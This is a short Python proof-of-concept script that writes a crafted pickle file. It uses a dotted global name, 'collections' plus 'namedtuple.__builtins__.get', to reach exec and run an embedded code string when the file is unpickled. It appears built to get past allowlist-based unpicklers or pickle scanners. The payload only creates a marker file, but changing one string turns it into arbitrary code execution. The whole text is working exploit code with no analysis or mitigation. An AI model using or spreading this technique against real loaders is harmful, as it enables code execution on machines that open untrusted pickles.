import pickle
from pathlib import Path

CODE = "from pathlib import Path; Path('owned.txt').touch()"


def text(value):
    data = value.encode()
    return pickle.SHORT_BINUNICODE + bytes([len(data)]) + data


call_with_one = pickle.TUPLE1 + pickle.REDUCE
program = [
    pickle.PROTO + b"\x04",
    text("collections"),
    text("namedtuple.__builtins__.get"),
    pickle.STACK_GLOBAL,
    text("exec") + call_with_one,
    text(CODE) + call_with_one,
    pickle.STOP,
]
Path("dotted.pickle").write_bytes(b"".join(program))
